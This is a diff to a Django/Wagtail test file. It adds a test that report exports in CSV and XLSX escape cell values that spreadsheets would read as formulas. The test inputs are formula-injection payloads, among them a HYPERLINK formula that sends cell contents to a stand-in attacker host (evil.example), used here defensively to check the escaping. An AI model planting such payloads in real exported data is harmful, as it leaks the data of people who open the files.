@@ -1,5 +1,9 @@
-"""The report of what imports could not place."""
+"""The report of what imports could not place, and that exports of reports hold no formulas."""
 
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.urls import reverse
 
@@ -50,3 +54,30 @@ def test_visitors_do_not_see_it(client, imported):
 
 def test_it_is_in_the_menu(editor):
     assert ADDRESS in editor.get(reverse("wagtailadmin_home")).content.decode()
+
+
+EXPORTS = [
+    "/admin/reports/quality/",
+    "/admin/reports/not-found-yet/",
+    "/admin/reports/site-history/",
+    "/admin/reports/aging-pages/",
+]
+
+
+def cells(answer):
+    content = b"".join(answer.streaming_content)
+    if answer["Content-Type"] == "text/csv":
+        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
+    rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
+    return [str(cell) for row in rows for cell in row]
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1"])
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_no_title_is_taken_for_a_formula_in_an_export_of_a_report(admin_client, imported, title, kind):
+    imported.title = title
+    imported.save_revision().publish()
+    for address in EXPORTS:
+        written = [cell for cell in cells(admin_client.get(address, {"export": kind})) if title.strip() in cell]
+        assert written, address
+        assert all(cell.startswith("'") for cell in written), address
